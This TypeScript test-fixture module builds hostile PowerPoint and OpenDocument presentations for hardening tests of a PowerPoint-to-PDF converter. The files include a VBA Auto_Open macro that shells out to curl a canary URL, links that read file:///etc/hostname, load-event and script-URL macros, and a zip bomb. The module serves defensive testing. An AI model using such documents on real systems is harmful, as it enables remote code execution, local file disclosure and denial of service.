import { readFileSync } from 'node:fs';
import { corpusPath } from '@quire/corpus';
import { strFromU8, strToU8, unzipSync, zipSync, type Zippable } from 'fflate';
import { LOCAL_IMAGE } from './hostile-word.ts';

/**
 * Presentations for the tests of PowerPoint to PDF (its op test, the hardening tables and the bench): formats the
 * corpus has no file of, made from its files, and hostile presentations of the hardening catalogue (group D) that
 * try to fetch, read or run something while LibreOffice converts them, or unpack to far more than they weigh.
 * The PowerPoint ones are the corpus's one-slide presentation with shapes added to its slide.
 */

const RELS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MAIN_TYPE = 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml';
const SLIDE_SHOW_TYPE = 'application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml';
const MACRO_MAIN_TYPE = 'application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml';
/** The corpus's presentation of one empty slide (with speaker notes), which the PowerPoint builders add to. */
export const ONE_SLIDE_PPTX = 'office/pythonpptx_notes.pptx';

const escape = (text: string) => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');

/**
 * A PowerPoint slide show (.ppsx): the same package as a presentation whose main part says it opens as a show,
 * which is all that tells the two formats apart.
 */
export function asSlideShow(pptx: Uint8Array): Uint8Array {
  const files = unzipSync(pptx);
  const types = strFromU8(files['[Content_Types].xml'] ?? new Uint8Array());
  if (!types.includes(MAIN_TYPE)) throw new Error('not a PowerPoint presentation');
  files['[Content_Types].xml'] = strToU8(types.replace(MAIN_TYPE, SLIDE_SHOW_TYPE));
  return zipSync(files);
}

/** `pptx` with its slide number `slide` (from 1) hidden, as PowerPoint's "Hide Slide" marks it. */
export function withHiddenSlide(pptx: Uint8Array, slide: number): Uint8Array {
  const files = unzipSync(pptx);
  const path = `ppt/slides/slide${slide}.xml`;
  const xml = strFromU8(files[path] ?? new Uint8Array());
  if (!xml.includes('<p:sld ')) throw new Error(`no ${path}`);
  files[path] = strToU8(xml.replace('<p:sld ', '<p:sld show="0" '));
  return zipSync(files);
}

/**
 * `ppt` (a PowerPoint 97–2003 file) marked as encrypted as PowerPoint marks it: the `Current User` stream's
 * CurrentUserAtom (record type 0x0FF6, size 0x14) carries the token 0xF3D1C4DF instead of 0xE391C05F.
 */
export function markPptEncrypted(ppt: Uint8Array): Uint8Array {
  const bytes = Buffer.from(ppt);
  const atom = Buffer.from([0xf6, 0x0f]);
  for (let at = bytes.indexOf(atom); at >= 2; at = bytes.indexOf(atom, at + 1)) {
    if (bytes.readUInt32LE(at + 6) === 0x14 && bytes.readUInt32LE(at + 10) === 0xe391c05f) {
      bytes.writeUInt32LE(0xf3d1c4df, at + 10);
      return bytes;
    }
  }
  throw new Error('no CurrentUserAtom found');
}

type SlideAdditions = {
  /** Shapes added to the slide's shape tree. */
  shapes: string;
  /** `<Relationship …/>` elements of the slide. */
  rels?: string;
  mainType?: string;
  /** Relationships of the presentation part, more parts by path, and content-type entries for them. */
  presentationRels?: string;
  parts?: Record<string, string>;
  contentTypes?: string;
};

/** The corpus's one-slide presentation with `additions` made to its slide and package. */
function withSlide({
  shapes,
  rels = '',
  mainType = MAIN_TYPE,
  presentationRels = '',
  parts = {},
  contentTypes = '',
}: SlideAdditions): Uint8Array {
  const files: Zippable = unzipSync(readFileSync(corpusPath(ONE_SLIDE_PPTX)));
  const edit = (path: string, change: (xml: string) => string) => {
    const part = files[path];
    if (!(part instanceof Uint8Array)) throw new Error(`no ${path}`);
    files[path] = strToU8(change(strFromU8(part)));
  };
  edit('ppt/slides/slide1.xml', (xml) => xml.replace('</p:spTree>', `${shapes}</p:spTree>`));
  edit('ppt/slides/_rels/slide1.xml.rels', (xml) =>
    xml.replace('</Relationships>', `${rels}</Relationships>`),
  );
  edit('ppt/_rels/presentation.xml.rels', (xml) =>
    xml.replace('</Relationships>', `${presentationRels}</Relationships>`),
  );
  edit('[Content_Types].xml', (xml) =>
    xml.replace(MAIN_TYPE, mainType).replace('</Types>', `${contentTypes}</Types>`),
  );
  for (const [path, content] of Object.entries(parts)) files[path] = strToU8(content);
  return zipSync(files);
}

const box = (y: number) =>
  `<a:xfrm><a:off x="457200" y="${y}"/><a:ext cx="8000000" cy="700000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom>`;

/** A text box; `click` is the `<a:hlinkClick …/>` run when it is clicked in a show. */
function textBox(id: number, text: string, click = ''): string {
  return (
    `<p:sp><p:nvSpPr><p:cNvPr id="${id}" name="Text ${id}">${click}</p:cNvPr><p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr>` +
    `<p:spPr>${box(300_000 + (id - 10) * 800_000)}</p:spPr><p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r>` +
    `<a:rPr lang="en-US"/><a:t>${escape(text)}</a:t></a:r></a:p></p:txBody></p:sp>`
  );
}

/** A picture whose image is the external relationship `rel`; `media` goes in its `<p:nvPr>` (a linked video). */
function linkedPicture(id: number, rel: string, media = ''): string {
  return (
    `<p:pic><p:nvPicPr><p:cNvPr id="${id}" name="Picture ${id}"/><p:cNvPicPr/><p:nvPr>${media}</p:nvPr></p:nvPicPr>` +
    `<p:blipFill><a:blip r:link="${rel}"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>` +
    `<p:spPr>${box(300_000 + (id - 10) * 800_000)}</p:spPr></p:pic>`
  );
}

const externalRel = (id: string, type: string, target: string) =>
  `<Relationship Id="${id}" Type="${type.includes('/') ? type : `${RELS}/${type}`}" Target="${escape(target)}" TargetMode="External"/>`;

/**
 * Items 35, 38 and 42 for presentations: a .pptx whose slide shows pictures linked to the canary, to
 * `file:///etc/hostname` and to {@link LOCAL_IMAGE} (readable in the sandbox: a picture in the PDF would show a
 * link was followed), a video linked to the canary, a linked OLE object (updated automatically) on the canary with
 * a linked preview, and a hyperlink to the canary. Its own text is `Quire slide canary`.
 */
export function createLinkingPptx(canaryUrl: string): Uint8Array {
  const oleObject =
    '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="20" name="Object 20"/><p:cNvGraphicFramePr/><p:nvPr/>' +
    '</p:nvGraphicFramePr><p:xfrm><a:off x="457200" y="4500000"/><a:ext cx="3000000" cy="1000000"/></p:xfrm>' +
    '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">' +
    '<p:oleObj name="Worksheet" r:id="rIdOle" progId="Excel.Sheet.12"><p:link updateAutomatic="1"/>' +
    `<p:pic><p:nvPicPr><p:cNvPr id="21" name="Preview"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:link="rIdPreview"/>` +
    `<a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr>${box(4_500_000)}</p:spPr></p:pic></p:oleObj>` +
    '</a:graphicData></a:graphic></p:graphicFrame>';
  return withSlide({
    shapes:
      textBox(10, 'Quire slide canary', '<a:hlinkClick r:id="rIdLink"/>') +
      linkedPicture(11, 'rIdCanary') +
      linkedPicture(12, 'rIdHostname') +
      linkedPicture(13, 'rIdLocal') +
      linkedPicture(14, 'rIdPoster', '<a:videoFile r:link="rIdVideo"/>') +
      oleObject,
    rels:
      externalRel('rIdLink', 'hyperlink', `${canaryUrl}/click`) +
      externalRel('rIdCanary', 'image', `${canaryUrl}/slide.png`) +
      externalRel('rIdHostname', 'image', 'file:///etc/hostname') +
      externalRel('rIdLocal', 'image', `file://${LOCAL_IMAGE}`) +
      externalRel('rIdPoster', 'image', `${canaryUrl}/poster.png`) +
      externalRel('rIdVideo', 'video', `${canaryUrl}/video.mp4`) +
      externalRel('rIdOle', 'oleObject', `${canaryUrl}/book.xlsx`) +
      externalRel('rIdPreview', 'image', `${canaryUrl}/preview.emf`),
  });
}

/**
 * Items 36 and 41 for presentations: a macro-enabled presentation (.pptm) with a VBA project holding `Auto_Open`,
 * and shapes whose clicks run a macro (`ppaction://macro`), a LibreOffice script URL and a UNO command. Its own
 * text is `Quire macro slide`.
 */
export function createMacroPptm(canaryUrl: string): Uint8Array {
  const vbaSource =
    'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\n  Shell "curl ' +
    canaryUrl +
    '/autoopen"\r\nEnd Sub\r\n';
  return withSlide({
    mainType: MACRO_MAIN_TYPE,
    shapes:
      textBox(10, 'Quire macro slide', '<a:hlinkClick r:id="" action="ppaction://macro?name=Auto_Open"/>') +
      textBox(11, 'script click', '<a:hlinkClick r:id="rIdScript" action="ppaction://program"/>') +
      textBox(12, 'command click', '<a:hlinkClick r:id="rIdCommand"/>'),
    rels:
      externalRel(
        'rIdScript',
        'hyperlink',
        'vnd.sun.star.script:LibreLogo|LibreLogo.py$run?language=Python&location=share',
      ) + externalRel('rIdCommand', 'hyperlink', 'vnd.libreoffice.command:.uno:Quit'),
    presentationRels:
      '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>',
    parts: { 'ppt/vbaProject.bin': vbaSource },
    contentTypes:
      '<Override PartName="/ppt/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
  });
}

const ODF = 'urn:oasis:names:tc:opendocument:xmlns';
const ODP_TYPE = 'application/vnd.oasis.opendocument.presentation';

/** A zipped OpenDocument presentation: `body` inside `<office:presentation>`, `scripts` before the body. */
function createOdp(body: string, { scripts = '', parts = {} as Record<string, string> } = {}): Uint8Array {
  const content =
    `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="${ODF}:office:1.0" ` +
    `xmlns:draw="${ODF}:drawing:1.0" xmlns:text="${ODF}:text:1.0" xmlns:svg="${ODF}:svg-compatible:1.0" ` +
    `xmlns:presentation="${ODF}:presentation:1.0" xmlns:script="${ODF}:script:1.0" ` +
    'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3">' +
    `${scripts}<office:body><office:presentation>${body}</office:presentation></office:body></office:document-content>`;
  const entry = (path: string, type: string) =>
    `<manifest:file-entry manifest:full-path="${path}" manifest:media-type="${type}"/>`;
  return zipSync({
    // The media type comes first and uncompressed, as ODF requires.
    mimetype: [strToU8(ODP_TYPE), { level: 0 }],
    'META-INF/manifest.xml': strToU8(
      `<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="${ODF}:manifest:1.0" manifest:version="1.3">` +
        entry('/', ODP_TYPE) +
        entry('content.xml', 'text/xml') +
        Object.keys(parts)
          .map((path) => entry(path, 'text/xml'))
          .join('') +
        '</manifest:manifest>',
    ),
    'content.xml': strToU8(content),
    ...Object.fromEntries(Object.entries(parts).map(([path, text]) => [path, strToU8(text)])),
  });
}

const frame = (y: number, inner: string) =>
  `<draw:frame svg:x="2cm" svg:y="${y}cm" svg:width="20cm" svg:height="2cm">${inner}</draw:frame>`;

/** An OpenDocument presentation of one slide per text, each text in a frame. */
export function createSlidesOdp(slideTexts: readonly string[]): Uint8Array {
  return createOdp(
    slideTexts
      .map(
        (text, index) =>
          `<draw:page draw:name="slide${index + 1}">${frame(2, `<draw:text-box><text:p>${escape(text)}</text:p></draw:text-box>`)}</draw:page>`,
      )
      .join(''),
  );
}

/**
 * Items 35, 36, 41 and 42 for OpenDocument presentations, which unlike flat ODF files reach LibreOffice: an .odp
 * whose document-load event runs its own Basic macro (which would rewrite the slide's text to `macro ran`),
 * whose slide shows pictures linked to the canary, to `file:///etc/hostname` and to {@link LOCAL_IMAGE}, embeds an
 * object linked to `file:///etc/hostname`, and runs a script URL when clicked. Its own text is `Quire odp canary`.
 */
export function createActiveOdp(canaryUrl: string): Uint8Array {
  const macro = 'vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document';
  const basic =
    '<?xml version="1.0" encoding="UTF-8"?><script:module xmlns:script="http://openoffice.org/2000/script" ' +
    'script:name="Module1" script:language="StarBasic">Sub Main\n' +
    '  ThisComponent.getDrawPages().getByIndex(0).getByIndex(0).setString("macro ran")\n' +
    'End Sub\n</script:module>';
  const library =
    '<?xml version="1.0" encoding="UTF-8"?><library:library xmlns:library="http://openoffice.org/2000/library" ' +
    'library:name="Standard" library:readonly="false" library:passwordprotected="false">' +
    '<library:element library:name="Module1"/></library:library>';
  const container =
    '<?xml version="1.0" encoding="UTF-8"?><library:libraries xmlns:library="http://openoffice.org/2000/library" ' +
    'xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/>' +
    '</library:libraries>';
  const image = (href: string) => `<draw:image xlink:href="${escape(href)}" xlink:type="simple"/>`;
  const slide =
    '<draw:page draw:name="slide1">' +
    frame(
      2,
      '<draw:text-box><text:p>Quire odp canary</text:p></draw:text-box>' +
        `<office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="execute" xlink:href="${macro}"/></office:event-listeners>`,
    ) +
    frame(5, image(`${canaryUrl}/slide.png`)) +
    frame(8, image('file:///etc/hostname')) +
    frame(11, image(`file://${LOCAL_IMAGE}`)) +
    frame(
      14,
      '<draw:object xlink:href="file:///etc/hostname" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>',
    ) +
    '</draw:page>';
  return createOdp(slide, {
    scripts:
      '<office:scripts><office:event-listeners>' +
      `<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="${macro}"/>` +
      '</office:event-listeners></office:scripts>',
    parts: {
      'Basic/script-lc.xml': container,
      'Basic/Standard/script-lb.xml': library,
      'Basic/Standard/Module1.xml': basic,
    },
  });
}

/**
 * Item 43 for presentations: a real zip bomb, an .odp whose `content.xml` of `slides` slides, each with the same
 * long paragraph, deflates about a thousandfold (the default unpacks to ≈ 110 MB, past the 100 MB any part may
 * hold).
 */
export function createDeflateBombOdp(slides = 2_000): Uint8Array {
  const slide = `<draw:page>${frame(2, `<draw:text-box><text:p>${'0'.repeat(55_000)}</text:p></draw:text-box>`)}</draw:page>`;
  return createOdp(slide.repeat(slides));
}
